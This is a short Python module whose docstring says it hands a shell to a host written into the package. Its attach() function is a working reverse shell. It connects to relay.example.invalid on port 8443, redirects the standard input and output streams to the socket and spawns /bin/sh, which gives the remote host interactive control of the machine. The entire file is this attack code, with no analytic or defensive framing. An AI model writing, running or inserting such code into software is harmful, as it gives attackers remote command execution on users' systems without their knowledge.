"""A helper that, when called, hands a shell to a host written into the package."""

import os
import pty
import socket


def attach():
    conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    conn.connect(("relay.example.invalid", 8443))
    for fd in (0, 1, 2):
        os.dup2(conn.fileno(), fd)
    pty.spawn("/bin/sh")
